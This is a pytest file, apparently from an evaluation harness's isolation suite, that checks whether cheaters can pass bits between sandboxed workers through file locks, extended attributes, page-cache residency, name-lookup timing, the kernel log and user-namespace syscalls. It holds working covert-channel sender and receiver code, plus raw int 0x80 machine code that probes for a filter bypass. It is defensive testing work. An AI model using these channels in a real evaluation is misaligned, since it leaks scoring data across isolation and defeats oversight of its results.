"""Channels between sandboxed processes that share a machine, and why none carries a bit now.

Each case runs small Python programs (no torch: a second each) in real sandboxes planned the way
the harness plans every phase (isolation.sandbox.plan_sandbox), once in a world of its own
(isolation/world.py) and, as a control that shows the case can fail, once without one (the sandbox
as it was before worlds: uid 0 without capabilities, the host's inodes). A cheater used each of
these channels: locks on shared files read back by another worker, file metadata and extended
attributes kept for a later run, page-cache residency, keyrings, and memory outside the limit.
"""

from __future__ import annotations

import ctypes
import dataclasses
import json
import os
import resource
import secrets
import socket
import statistics
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from isolation.sandbox import MachineCaps, SandboxPlan, plan_sandbox, probe_machine
from isolation.world import WORLD_UID_BASE

PROJECT = Path(__file__).resolve().parents[2]
CAPS = probe_machine()
HAS_WORLD = CAPS.root and CAPS.namespaces and CAPS.overlay
pytestmark = pytest.mark.skipif(not HAS_WORLD, reason="needs root, a mount namespace and overlayfs (a world)")
INSTALLED = os.path.realpath(json.__file__)
"""A file of the Python installation every sandbox can read."""


def _plan(
    tmp: Path, *, world: bool, memory_limit_bytes: int = 0, device: str = "cpu"
) -> tuple[SandboxPlan, Path, Path]:
    code, out = tmp / "code", tmp / f"out-{time.monotonic_ns()}"
    code.mkdir(exist_ok=True)
    out.mkdir()
    (code / "model.py").write_text("# staged code, read by every worker\n")
    caps: MachineCaps = CAPS if world else dataclasses.replace(CAPS, overlay=False)
    plan = plan_sandbox(
        mode="auto",
        network="auto",
        device=device,
        multi_node=False,
        project_root=PROJECT,
        read_paths=[code],
        write_paths=[out],
        protected=(),
        import_path=[p for p in sys.path[1:] if p],
        caps=caps,
        seccomp=True,
        memory_limit_bytes=memory_limit_bytes,
    )
    assert (plan.world is not None) == world
    return plan, code, out


def _start(plan: SandboxPlan, out: Path, program: str, *args: str) -> subprocess.Popen[str]:
    cmd = plan.wrap([sys.executable, "-c", textwrap.dedent(program), *args], out.with_suffix(".policy.json"))
    # a shared namespace's descriptor goes with it
    fds = () if plan.joined_net is None else (plan.joined_net,)
    return subprocess.Popen(
        cmd,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=out,
        pass_fds=fds,
    )


def _run(plan: SandboxPlan, out: Path, program: str, *args: str) -> dict:
    p = _start(plan, out, program, *args)
    stdout, stderr = p.communicate(timeout=60)
    assert p.returncode == 0, stderr
    return json.loads(stdout.strip().splitlines()[-1])


HOLD = """
import fcntl, json, os, struct, sys
held = []
for path in sys.argv[1:]:
    fd = os.open(path, os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    fcntl.fcntl(fd, fcntl.F_SETLK, struct.pack("hhqqi", fcntl.F_RDLCK, 0, 0, 1, 0))
    fcntl.fcntl(fd, fcntl.F_OFD_SETLK, struct.pack("hhqqi", fcntl.F_RDLCK, 0, 8, 1, 0))
    held.append(fd)
print(json.dumps({"held": len(held)}), flush=True)
sys.stdin.read()
"""
LOOK = """
import fcntl, json, os, struct, sys
seen = {}
for path in sys.argv[1:]:
    fd = os.open(path, os.O_RDONLY)
    bits = []
    try:
        fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except OSError:
        bits.append("flock")
    for cmd, start in ((fcntl.F_GETLK, 0), (fcntl.F_OFD_GETLK, 8)):
        got = fcntl.fcntl(fd, cmd, struct.pack("hhqqi", fcntl.F_WRLCK, 0, start, 1, 0))
        if struct.unpack("hhqqi", got)[0] != fcntl.F_UNLCK:
            bits.append("posix" if cmd == fcntl.F_GETLK else "ofd")
    seen[path] = bits
print(json.dumps(seen))
"""


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-no-world"])
def test_locks_held_in_one_world_are_invisible_in_another(tmp_path, world):
    plan_a, code, out_a = _plan(tmp_path, world=world)
    plan_b, _, out_b = _plan(tmp_path, world=world)
    paths = [INSTALLED, str(code / "model.py")]
    holder = _start(plan_a, out_a, HOLD, *paths)
    try:
        assert json.loads(holder.stdout.readline())["held"] == 2
        seen = _run(plan_b, out_b, LOOK, *paths)
    finally:
        holder.stdin.close()
        holder.wait(timeout=30)
    if world:
        assert seen == {p: [] for p in paths}
    else:  # the channel the attacker used: every kind of lock is seen across sandboxes
        assert all(set(bits) == {"flock", "posix", "ofd"} for bits in seen.values()), seen


TOUCH = """
import errno, json, os, sys
done = {}
for path in sys.argv[1:]:
    for what, act in (
        ("xattr", lambda: os.setxattr(path, "user.pgolf", b"val tokens")),
        ("chmod", lambda: os.chmod(path, 0o6777)),
        ("utime", lambda: os.utime(path, (1, 1))),
        ("chown", lambda: os.chown(path, 0, 0)),
    ):
        try:
            act()
            done[f"{os.path.basename(path)}:{what}"] = "done"
        except OSError as e:
            done[f"{os.path.basename(path)}:{what}"] = errno.errorcode[e.errno]
print(json.dumps(done))
"""
READ_BACK = """
import json, os, sys
print(json.dumps({p: os.listxattr(p) for p in sys.argv[1:]}))
"""


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-no-world"])
def test_no_world_changes_a_file_it_can_read_so_a_later_run_reads_nothing(tmp_path, world):
    plan, code, out = _plan(tmp_path, world=world)
    staged = code / "model.py"
    mode_before = staged.stat().st_mode
    targets = [str(staged)] + (
        [INSTALLED] if world else []
    )  # the control never touches the real installation
    done = _run(plan, out, TOUCH, *targets)
    later, _, out2 = _plan(tmp_path, world=world)  # the next run, back to back
    kept = _run(later, out2, READ_BACK, str(staged))
    if world:
        assert "done" not in done.values(), done
        assert kept == {str(staged): []} and staged.stat().st_mode == mode_before
        assert os.listxattr(INSTALLED) == []
    else:
        assert done["model.py:xattr"] == "done" and done["model.py:chmod"] == "done"
        assert kept == {str(staged): ["user.pgolf"]}


CACHE = """
import ctypes, errno, json, mmap, os, sys  # x86-64 system-call numbers
libc = ctypes.CDLL(None, use_errno=True)
path = sys.argv[1]
fd = os.open(path, os.O_RDONLY)
buf = ctypes.create_string_buffer(1)
res = {}
def call(name, *args):
    r = libc.syscall(*args)
    res[name] = "ok" if r >= 0 else errno.errorcode[ctypes.get_errno()]
view = (ctypes.c_char * 4096).from_buffer(bytearray(4096))
anon = mmap.mmap(-1, 4096)
anon_addr = ctypes.addressof(ctypes.c_char.from_buffer(anon))
call("mincore", 27, ctypes.c_void_p(anon_addr), ctypes.c_size_t(4096), buf)
call("fadvise64", 221, fd, ctypes.c_long(0), ctypes.c_long(0), 4)
call("readahead", 187, fd, ctypes.c_long(0), ctypes.c_size_t(4096))
call("cachestat", 451, fd, ctypes.byref((ctypes.c_uint64 * 2)(0, 4096)), ctypes.byref((ctypes.c_uint64 * 8)()), 0)
call("madvise_pageout", 28, ctypes.c_void_p(anon_addr), ctypes.c_size_t(4096), 21)
call("madvise_dontneed", 28, ctypes.c_void_p(anon_addr), ctypes.c_size_t(4096), 4)
iov = (ctypes.c_uint64 * 2)(ctypes.addressof(view), 4096)
call("preadv2_nowait", 327, fd, iov, 1, ctypes.c_long(0), ctypes.c_long(0), 8)
call("preadv2", 327, fd, iov, 1, ctypes.c_long(0), ctypes.c_long(0), 0)
call("io_uring_setup", 425, 4, ctypes.byref((ctypes.c_uint32 * 30)()))
call("keyctl", 250, 0, ctypes.c_long(-4), 0, 0)
print(json.dumps(res))
"""


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-no-world"])
def test_page_cache_state_can_be_neither_read_nor_changed(tmp_path, world):
    plan, _, out = _plan(tmp_path, world=world)
    if not world:  # the control: the same program outside every sandbox
        plan = dataclasses.replace(plan, mode="off")
    res = _run(plan, out, CACHE, INSTALLED)
    refused = {"mincore", "fadvise64", "readahead", "cachestat", "madvise_pageout", "preadv2_nowait",
               "io_uring_setup", "keyctl"}  # fmt: skip
    if world:
        assert {k for k, v in res.items() if v == "EPERM"} == refused, res
        assert res["madvise_dontneed"] == "ok" and res["preadv2"] == "ok"  # ordinary calls still work
    else:
        assert not {k for k, v in res.items() if v == "EPERM"}, res  # each call answers (EAGAIN: not cached)


WHO = """
import json, os
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
print(json.dumps({"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(),
                  "cap_eff": status["CapEff"].strip(), "cap_bnd": status["CapBnd"].strip(),
                  "root_writable": os.access("/", os.W_OK)}))
"""


def test_each_world_has_its_own_uid_and_no_capability(tmp_path):
    seen = []
    for _ in range(2):
        plan, _, out = _plan(tmp_path, world=True)
        who = _run(plan, out, WHO)
        assert who["uid"] == who["gid"] == plan.world.uid >= WORLD_UID_BASE and who["groups"] == []
        assert int(who["cap_eff"], 16) == 0 and int(who["cap_bnd"], 16) == 0
        assert (out.stat().st_uid, who["root_writable"]) == (plan.world.uid, False)
        seen.append(who["uid"])
    assert seen[0] != seen[1]


SHM = """
import errno, json, os
res = {}
try:
    with open("/dev/shm/fill", "wb") as f:
        for _ in range(2048):
            f.write(b"x" * (1 << 20))
    res["shm"] = "wrote 2 GiB"
except OSError as e:
    res["shm"] = errno.errorcode[e.errno]
res["shm_mib"] = os.path.getsize("/dev/shm/fill") >> 20
os.unlink("/dev/shm/fill")
print(json.dumps(res), flush=True)
fd = os.memfd_create("fill")
for _ in range(2048):
    os.write(fd, b"y" * (1 << 20))
print(json.dumps({"memfd": "wrote 2 GiB"}))
"""


def test_shared_memory_counts_against_the_world_s_limit(tmp_path):
    limit = 512 << 20
    plan, _, out = _plan(tmp_path, world=True, memory_limit_bytes=limit)
    p = _start(plan, out, SHM)
    stdout, stderr = p.communicate(timeout=120)
    first = json.loads(stdout.splitlines()[0])
    assert first["shm"] == "ENOSPC" and first["shm_mib"] <= plan.world.shm_bytes >> 20, first
    # a memfd: charged to the world's memory cgroup (killed at the limit) or, without one, refused
    assert "memfd" not in stdout, (stdout, stderr)
    if plan.memory_cgroup:  # killed by the cgroup's OOM killer (unshare then exits 1), or refused memory
        assert p.returncode != 0, (p.returncode, stderr)
    else:
        assert "PermissionError" in stderr, stderr


MEMLOCK = """
import json, resource
print(json.dumps(resource.getrlimit(resource.RLIMIT_MEMLOCK)))
"""


def test_a_cuda_phase_may_pin_memory_though_it_holds_no_capability(tmp_path):
    """NCCL's InfiniBand/EFA registration pins memory: the limit is raised while the sandbox is still root."""
    best = subprocess.run(  # as high as root may set it on this machine (unlimited where it has CAP_SYS_RESOURCE)
        [sys.executable, "-c", "import json; from isolation.sandbox import raise_memlock; print(json.dumps(raise_memlock()))"],
        capture_output=True, text=True, cwd=PROJECT, check=True,
    ).stdout  # fmt: skip
    cuda, _, out = _plan(tmp_path, world=True, device="cuda")
    assert _run(cuda, out, MEMLOCK) == json.loads(best) and json.loads(best)[0] == json.loads(best)[1]
    cpu, _, out = _plan(tmp_path, world=True)
    assert _run(cpu, out, MEMLOCK) == list(resource.getrlimit(resource.RLIMIT_MEMLOCK))


SEND = """
import mmap, os, sys
path, bits = sys.argv[1], sys.argv[2]
fd = os.open(path, os.O_RDONLY)
m = mmap.mmap(fd, len(bits) * 4096, prot=mmap.PROT_READ)
m.madvise(mmap.MADV_RANDOM)
for i, b in enumerate(bits):
    if b == "1":
        m[i * 4096]  # makes the page resident: the bit the attacker sent
"""
RECEIVE = """
import json, mmap, os, resource, sys
path, n = sys.argv[1], int(sys.argv[2])
fd = os.open(path, os.O_RDONLY)
m = mmap.mmap(fd, n * 4096, prot=mmap.PROT_READ)
m.madvise(mmap.MADV_RANDOM)
got = []
for i in range(n):
    before = resource.getrusage(resource.RUSAGE_THREAD).ru_majflt
    m[i * 4096]
    got.append("0" if resource.getrusage(resource.RUSAGE_THREAD).ru_majflt > before else "1")
print(json.dumps("".join(got)))
"""


@pytest.mark.parametrize("reset", [True, False], ids=["reset", "control-no-reset"])
def test_pages_a_world_made_resident_are_gone_before_the_next_world(tmp_path, reset):
    """The page-cache channel an attacker ran at 20 kbit/s from a closed worker to the next: a world reads the
    pages that spell its bits, a later one reads each page's major-fault count. The scorer empties the page
    cache between its workers (isolation.world.PageCacheReset): nothing of the first world is left.

    The control (no reset) shows the channel is real on this machine. drop_caches is global, so a scorer in
    another test worker may empty the cache mid-send (CI saw half the bits lost that way): the control gets
    three tries, each with a fresh secret, and one clean send proves the channel."""
    from isolation.world import PageCacheReset

    tries = []
    for attempt in range(1 if reset else 3):
        root = tmp_path / f"try{attempt}"
        root.mkdir()
        plan, code, out = _plan(root, world=True)
        secret = "".join(secrets.choice("01") for _ in range(256))
        carrier = code / "weights.bin"
        carrier.write_bytes(os.urandom(len(secret) * 4096))
        fd = os.open(carrier, os.O_RDONLY)
        os.fsync(fd)
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)  # a file nobody has read since boot
        os.close(fd)
        _run(plan, out, SEND + "print('{}')", str(carrier), secret)
        cache = PageCacheReset.open(roots=[str(code)])
        if reset:
            cache.reset()
        later, _, out2 = _plan(root, world=True)
        got = _run(later, out2, RECEIVE, str(carrier), str(len(secret)))
        cache.close()
        if reset:
            assert got == "0" * len(secret), got
            return
        tries.append(sum(a == b for a, b in zip(got, secret, strict=True)) / len(secret))
        if tries[-1] > 0.9:
            return
    pytest.fail(f"the channel carried no clean send in {len(tries)} tries (fraction of bits right: {tries})")


LOOK_UP = """
import json, os, sys
root, bits = sys.argv[1], sys.argv[2]
for i, b in enumerate(bits):
    if b == "1":
        # the host caches the name beneath the world's overlay, a file's or a missing one's: the bit sent
        os.path.exists(f"{root}/d{i}/" + ("f" if i % 2 else "missing"))
print(json.dumps("sent"))
"""
TIME_LOOK_UP = """
import json, os, sys, time
root, n = sys.argv[1], int(sys.argv[2])
took_ns = []
for i in range(n):
    t0 = time.perf_counter_ns()
    os.path.exists(f"{root}/d{i}/" + ("f" if i % 2 else "missing"))
    took_ns.append(time.perf_counter_ns() - t0)
print(json.dumps(took_ns))
"""


@pytest.mark.parametrize("reset", [True, False], ids=["reset", "control-no-reset"])
def test_names_a_world_looked_up_are_forgotten_before_the_next_world(tmp_path, reset):
    """A world looks up the names that spell its bits (files, or names that do not exist: as many as it likes);
    the host keeps each (dentry and inode) cached beneath the overlay, and a later world's look-up of a cached
    one took 7 us against 76 us (a read of the folder from disk): 255 of 256 bits crossed a reset that dropped
    the page cache alone. The reset drops the names too.
    The control (no reset) shows the channel is real here; it gets three tries (a reset by a test elsewhere
    on the machine, mid-send, empties the cache for everyone)."""
    from isolation.world import DROP_CACHES, PageCacheReset

    n = 128
    tries = []
    for attempt in range(1 if reset else 3):
        root = tmp_path / f"try{attempt}"
        root.mkdir()
        plan, code, out = _plan(root, world=True)
        for i in range(n):
            (code / f"d{i}").mkdir()
            (code / f"d{i}" / "f").write_text("x")
        os.sync()
        Path(DROP_CACHES).write_text("3")  # no name of the carrier cached before the send
        secret = "".join(secrets.choice("01") for _ in range(n))
        _run(plan, out, LOOK_UP, str(code), secret)
        cache = PageCacheReset.open(roots=[str(code)])
        if reset:
            cache.reset()
        cache.close()
        later, _, out2 = _plan(root, world=True)
        took_ns = _run(later, out2, TIME_LOOK_UP, str(code), str(n))
        sent = statistics.median(t for t, b in zip(took_ns, secret, strict=True) if b == "1")
        unsent = statistics.median(t for t, b in zip(took_ns, secret, strict=True) if b == "0")
        if reset:
            assert 0.5 < sent / unsent < 2, (sent, unsent)
            return
        cut = (sent * unsent) ** 0.5
        got = "".join("1" if t < cut else "0" for t in took_ns)
        tries.append(sum(a == b for a, b in zip(got, secret, strict=True)) / n)
        if tries[-1] > 0.9:
            return
    pytest.fail(f"the channel carried no clean send in {len(tries)} tries (fraction of bits right: {tries})")


READ_BENEATH = """
import json, os, sys
root = sys.argv[1]
got = {}
for rel in ("top.txt", "sub/inner.txt", "sub/deeper/deepest.txt", "single.txt"):
    try:
        got[rel] = open(os.path.join(root, rel)).read()
    except OSError as e:
        got[rel] = type(e).__name__
print(json.dumps(got))
"""


def test_a_mount_beneath_a_readable_folder_is_seen_in_the_world(tmp_path):
    """A GPU host keeps its driver on a mount of its own beneath a folder every sandbox reads (/usr/local/nvidia
    under /usr): an overlay of /usr shows only an empty folder there, so the first H200 run found no libcuda
    inside the world ("local rank 0 has no GPU"). Every mount beneath a readable folder is now placed too
    (folders as read-only overlays, files copied), nested ones included."""
    plan, code, out = _plan(tmp_path, world=True)
    (code / "top.txt").write_text("top")
    sub = code / "sub"
    sub.mkdir()
    single = code / "single.txt"
    single.write_text("the host's file under the mount")
    src = tmp_path / "bound.txt"
    src.write_text("a file mounted over a file")
    mounted: list[Path] = []
    try:
        subprocess.run(["mount", "-t", "tmpfs", "tmpfs", str(sub)], check=True)
        mounted.append(sub)
        (sub / "inner.txt").write_text("inner")
        (sub / "deeper").mkdir()
        subprocess.run(["mount", "-t", "tmpfs", "tmpfs", str(sub / "deeper")], check=True)
        mounted.append(sub / "deeper")
        (sub / "deeper" / "deepest.txt").write_text("deepest")
        subprocess.run(["mount", "--bind", str(src), str(single)], check=True)
        mounted.append(single)
        outside = _run_plain(READ_BENEATH, str(code))  # the control: what the host sees
        inside = _run(plan, out, READ_BENEATH, str(code))
    finally:
        for m in reversed(mounted):
            subprocess.run(["umount", "-l", str(m)], check=False)
    assert outside == {
        "top.txt": "top",
        "sub/inner.txt": "inner",
        "sub/deeper/deepest.txt": "deepest",
        "single.txt": "a file mounted over a file",
    }
    assert inside == outside


def test_mounts_beneath_etc_stay_hidden(tmp_path):
    """A host's secrets and configuration mounted beneath /etc (a Kubernetes Secret) are not placed in a world:
    the world sees /etc as the image has it. The control reads the mounted file outside."""
    from isolation import world

    assert "/etc" in world.NO_SUBMOUNTS
    plan, code, out = _plan(tmp_path, world=True)
    target = Path("/etc") / f"pgolf-test-secret-{secrets.token_hex(4)}"
    target.mkdir()
    try:
        subprocess.run(["mount", "-t", "tmpfs", "tmpfs", str(target)], check=True)
        try:
            (target / "token").write_text("an official's secret")
            program = "import json, os, sys; p = sys.argv[1]; print(json.dumps(os.path.exists(p)))"
            assert _run_plain(program, str(target / "token")) is True
            assert _run(plan, out, program, str(target / "token")) is False
        finally:
            subprocess.run(["umount", "-l", str(target)], check=False)
    finally:
        target.rmdir()


def _run_plain(program: str, *args: str) -> dict:
    p = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(program), *args], capture_output=True, text=True
    )
    assert p.returncode == 0, p.stderr
    return json.loads(p.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("hidden", [True, False], ids=["protected", "control-not-protected"])
def test_a_protected_folder_mounted_again_beneath_a_readable_one_stays_hidden(tmp_path, hidden):
    """The dataset's own path is outside every rule, but a host can show the same folder again at another path
    (a bind mount, a volume mounted twice): beneath a readable folder, such a mount was placed in the world like
    the GPU driver's, validation shards and all. A mount that shows a protected path, or part of one, is now left
    out, wherever it is mounted. The control: the same mount of a folder that is not protected is seen."""
    data = tmp_path / "data"
    (data / "ds").mkdir(parents=True)
    (data / "ds" / "fineweb_val_000000.bin").write_text("validation tokens")
    code, out = tmp_path / "code", tmp_path / f"out-{time.monotonic_ns()}"
    (code / "sub").mkdir(parents=True)
    (code / "whole").mkdir()
    out.mkdir()
    plan = plan_sandbox(
        mode="auto",
        network="auto",
        device="cpu",
        multi_node=False,
        project_root=PROJECT,
        read_paths=[code],
        write_paths=[out],
        protected=[data / "ds"] if hidden else [],
        import_path=[p for p in sys.path[1:] if p],
        caps=CAPS,
        seccomp=True,
    )
    assert plan.world is not None
    paths = [
        str(code / "sub" / "fineweb_val_000000.bin"),
        str(code / "whole" / "ds" / "fineweb_val_000000.bin"),
    ]
    program = "import json, os, sys; print(json.dumps([os.path.exists(p) for p in sys.argv[1:]]))"
    mounted: list[Path] = []
    try:
        for src, dst in ((data / "ds", code / "sub"), (data, code / "whole")):  # the folder, and one above it
            subprocess.run(["mount", "--bind", str(src), str(dst)], check=True)
            mounted.append(dst)
        assert _run_plain(program, *paths) == [True, True]
        inside = _run(plan, out, program, *paths)
    finally:
        for m in reversed(mounted):
            subprocess.run(["umount", "-l", str(m)], check=False)
    assert inside == ([False, False] if hidden else [True, True])


LISTEN = """
import json, socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(1)
print(json.dumps({"port": s.getsockname()[1]}), flush=True)
s.settimeout(20)
try:
    c, _ = s.accept()
    got = c.recv(16).decode()
except OSError:
    got = ""
print(json.dumps({"got": got}), flush=True)
"""
CONNECT = """
import json, os, socket, sys
held = []
for fd in os.listdir("/proc/self/fd"):
    try:
        held.append(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:  # the listing's own descriptor, closed by now
        pass
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=2).sendall(b"hello")
    print(json.dumps({"reached": True, "held": held}))
except OSError as e:
    print(json.dumps({"reached": False, "why": str(e), "held": held}))
"""


@pytest.mark.skipif(not CAPS.net_namespace, reason="needs `unshare --net` (a network namespace)")
def test_a_group_shares_one_loopback_of_its_own_and_reaches_nothing_else(tmp_path):
    """Two sandboxes joined to one SharedNet reach each other; a sandbox with a namespace of its own (another
    group, or the scorer's other workers) does not reach them, and they do not reach the host's loopback."""
    from isolation.shared_net import SharedNet

    net = SharedNet(PROJECT)
    try:
        plan, _, out = _plan(tmp_path, world=True)
        joined = dataclasses.replace(plan, join_net=net.fd)
        assert (
            joined.describe()["network_namespace_shared"] and not plan.describe()["network_namespace_shared"]
        )
        listener = _start(joined, out, LISTEN)
        assert listener.stdout is not None
        port = json.loads(listener.stdout.readline())["port"]
        alone = _run(plan, out, CONNECT, str(port))  # its own namespace: the group's port is not there
        assert alone["reached"] is False
        peer = _run(joined, out, CONNECT, str(port))  # the control: the same program, joined
        assert peer["reached"] is True
        assert not [h for h in peer["held"] if h.startswith("net:")]  # the namespace's descriptor was closed
        stdout, _ = listener.communicate(timeout=30)
        assert json.loads(stdout.strip().splitlines()[-1]) == {"got": "hello"}
        with socket.socket() as host:  # the host's loopback, where the scorer and the official live
            host.bind(("127.0.0.1", 0))
            host.listen(1)
            assert _run(joined, out, CONNECT, str(host.getsockname()[1]))["reached"] is False
    finally:
        net.close()


KLOG_SEND = """
import ctypes, os, sys
for word in sys.argv[1:]:  # a crash of its own choosing, once per word: the kernel logs the name and the address
    pid = os.fork()
    if pid == 0:
        ctypes.CDLL(None).prctl(15, ("pg" + word).encode(), 0, 0, 0)  # PR_SET_NAME: 15 bytes of the sender's
        ctypes.string_at(1 << 44 | int(word, 16), 1)  # a fault at an unmapped address of the sender's choice
        os._exit(0)
    os.waitpid(pid, 0)
print('{"sent": true}')
"""
KLOG_READ = """
import ctypes, errno, json, re, sys
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(1 << 20)
n = libc.syscall(103 if sys.argv[1] == "x86_64" else 116, 3, buf, 1 << 20)  # syslog(SYSLOG_ACTION_READ_ALL)
if n < 0:
    print(json.dumps({"read": errno.errorcode[ctypes.get_errno()], "words": []}))
else:
    text = buf.raw[:n].decode(errors="replace")
    print(json.dumps({"read": "ok", "words": re.findall(r"pg([0-9a-f]{11})\\[\\d+\\]: segfault at", text)}))
"""


@pytest.fixture
def kernel_log_open_to_all():
    """kernel.dmesg_restrict = 0 for the test (a kernel built without CONFIG_SECURITY_DMESG_RESTRICT starts so):
    then every process may read the kernel log with syslog(2). Put back as it was."""
    knob = Path("/proc/sys/kernel/dmesg_restrict")
    try:
        before = knob.read_text().strip()
        knob.write_text("0")
    except OSError as e:
        pytest.skip(f"cannot set kernel.dmesg_restrict here ({e}): needs root outside a container")
    try:
        yield
    finally:
        knob.write_text(before)


@pytest.mark.skipif(
    os.uname().machine not in ("x86_64", "aarch64"),
    reason="syslog(2)'s number is known for x86-64 and aarch64",
)
@pytest.mark.parametrize("world", [True, False], ids=["world", "control-unsandboxed-reader"])
def test_the_kernel_log_carries_nothing_to_a_later_world(tmp_path, kernel_log_open_to_all, world):
    """A world writes into the kernel log without any right: a crash logs its process name (15 bytes it sets)
    and the faulting address (47 bits it picks), 10 such lines per 5 s, kept until the machine reboots. Where
    the log is open to all (dmesg_restrict 0), a later world (a probe worker, the next run's ranks) read them."""
    words = [secrets.token_hex(6)[:11] for _ in range(2)]  # 44 bits each: a canonical address, below 1 << 45
    sender, _, out_a = _plan(tmp_path, world=True)
    assert _run(sender, out_a, KLOG_SEND, *words) == {"sent": True}
    reader, _, out_b = _plan(tmp_path, world=True)
    if not world:  # the control: the same reader outside every sandbox gets the words
        reader = dataclasses.replace(reader, mode="off")
    got = _run(reader, out_b, KLOG_READ, os.uname().machine)
    if world:
        assert got == {"read": "EPERM", "words": []}
    else:
        assert got["read"] == "ok" and set(words) <= set(got["words"]), (words, got)


NAMESPACES = """
import ctypes, errno, json, os, subprocess, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NEWUSER, NEWNET = 0x10000000, 0x40000000
clone = 56 if os.uname().machine == "x86_64" else 220
res = {}
def child_caps(flags):  # a child in a new user namespace holds every capability there
    pid = libc.syscall(clone, flags | 17, 0, 0, 0, 0)  # clone(flags | SIGCHLD)
    if pid == 0:
        os._exit(7 if "CapEff:\\t000001ffffffffff" in open("/proc/self/status").read() else 8)
    if pid < 0:
        return errno.errorcode[ctypes.get_errno()]
    return "every capability" if os.WEXITSTATUS(os.waitpid(pid, 0)[1]) == 7 else "made"
res["clone_user"] = child_caps(NEWUSER)
res["clone_user_net"] = child_caps(NEWUSER | NEWNET)
pid = os.fork()
if pid == 0:  # unshare in a child: the process itself goes on in the namespace it started in
    os._exit(0 if libc.unshare(NEWUSER) == 0 else 100 + ctypes.get_errno())
code = os.WEXITSTATUS(os.waitpid(pid, 0)[1])
res["unshare_user"] = "made" if code == 0 else errno.errorcode[code - 100]
if os.uname().machine == "x86_64":  # the other doors to the same call: the 32-bit entry (int 0x80) and x32
    import mmap, struct
    # mov eax, 310 (i386 unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
    code32 = b"\\xb8" + struct.pack("<I", 310) + b"\\xbb" + struct.pack("<I", NEWUSER) + b"\\xcd\\x80\\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code32)
    call32 = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    pid = os.fork()
    if pid == 0:
        rc = call32()
        os._exit(0 if rc == 0 else min(-rc, 99) + 100)
    status = os.waitpid(pid, 0)[1]
    code = os.WEXITSTATUS(status)
    if os.WIFSIGNALED(status):  # a kernel without the 32-bit entry (ia32_emulation=0) faults the call
        res["int80_unshare_user"] = "no 32-bit entry"
    else:
        res["int80_unshare_user"] = "made" if code == 0 else errno.errorcode.get(code - 100, str(code))
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.syscall(0x40000000 | 272, NEWUSER) == 0 else 100 + ctypes.get_errno())
    code = os.WEXITSTATUS(os.waitpid(pid, 0)[1])
    res["x32_unshare_user"] = "made" if code == 0 else errno.errorcode[code - 100]
# the calls that watch or steer the kernel for other processes: a null argument is EFAULT (or EINVAL) when the
# call is allowed, EPERM from the filter
x86 = os.uname().machine == "x86_64"
for name, nr in (("perf_event_open", 298 if x86 else 241), ("bpf", 321 if x86 else 280)):
    rc = libc.syscall(nr, 0, 0, 0, 0, 0)
    res[name] = "allowed" if rc >= 0 else errno.errorcode[ctypes.get_errno()]
rc = libc.syscall(323 if x86 else 282, 0)  # userfaultfd(0)
res["userfaultfd"] = "allowed" if rc >= 0 else errno.errorcode[ctypes.get_errno()]
# what must still work: threads (glibc tries clone3 first), fork, a subprocess
box = []
t = threading.Thread(target=lambda: box.append(1)); t.start(); t.join()
res["thread"] = "ok" if box else "no"
res["subprocess"] = subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True, text=True).stdout.strip()
print(json.dumps(res))
"""


@pytest.mark.parametrize("profile", ["world", "worker", "control-unsandboxed"])
def test_no_world_makes_a_namespace_of_its_own(tmp_path, profile):
    """A user namespace gives its maker every capability inside it (CAP_NET_ADMIN over a network namespace of its
    own: nftables and the rest of the kernel most privilege escalations go through). The worker's filter refused
    unshare and setns, but clone(CLONE_NEWUSER) made one all the same, in training and in the model worker alike."""
    plan, _, out = _plan(tmp_path, world=True)
    if profile == "world":  # a training rank's filter
        plan = dataclasses.replace(plan, seccomp=False)
    elif profile.startswith("control"):
        plan = dataclasses.replace(plan, mode="off")
    got = _run(plan, out, NAMESPACES)
    assert (got["thread"], got["subprocess"]) == ("ok", "1"), got
    if profile.startswith("control"):
        if got["clone_user"] != "every capability":
            pytest.skip(f"this machine makes no user namespace even outside a sandbox: {got}")
        assert got["unshare_user"] == "made", got
    else:
        assert (got["clone_user"], got["clone_user_net"], got["unshare_user"]) == ("EPERM",) * 3, got
        if (
            os.uname().machine == "x86_64"
        ):  # the 32-bit and x32 entries are refused whole, namespaces with them
            assert (
                got["int80_unshare_user"] in ("EPERM", "no 32-bit entry")
                and got["x32_unshare_user"] == "EPERM"
            ), got
        # HOLE (before the fix): a training rank's filter let these through (perf_event_open: EFAULT, so allowed)
        assert (got["perf_event_open"], got["bpf"], got["userfaultfd"]) == ("EPERM",) * 3, got


WATCH = """
import ctypes, json, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_NONBLOCK)
for path in sys.argv[1:]:
    assert libc.inotify_add_watch(fd, path.encode(), 0xFFF) >= 0, path  # IN_ALL_EVENTS: opens, reads, closes
print(json.dumps({"watching": True}), flush=True)
sys.stdin.readline()
events = []
try:
    data = os.read(fd, 1 << 16)
except BlockingIOError:
    data = b""
while data:
    _, mask, _, size = struct.unpack_from("iIII", data)
    events.append(mask)
    data = data[16 + size:]
print(json.dumps({"events": events}))
"""
READ_ALL = """
import json, sys
for path in sys.argv[1:]:
    with open(path, "rb") as f:
